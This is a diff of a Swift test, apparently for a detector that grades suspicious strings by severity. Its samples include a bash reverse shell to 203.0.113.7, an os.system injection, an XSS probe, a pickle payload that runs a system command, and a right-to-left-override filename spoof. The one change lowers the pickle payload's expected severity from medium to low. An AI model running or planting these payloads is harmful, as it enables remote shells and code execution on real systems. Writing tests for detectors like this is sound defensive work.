@@ -62,7 +62,7 @@ import Testing
         ("__import__('os').system('id')", .medium),
         ("<script>alert(1)</script>", .low), ("bash -i >& /dev/tcp/203.0.113.7/1 0>&1", .medium),
         ("\u{1B}[2Jclean model", .low), ("model\u{202E}gpj.exe", .low),
-        ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", .medium),
+        ("gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==", .low),
         ("f0VMRgIBAQAAAAAAAAAAAAIAPgABAAAA", .high),
     ])
     func addressesAndCode(_ text: String, _ severity: Severity) {
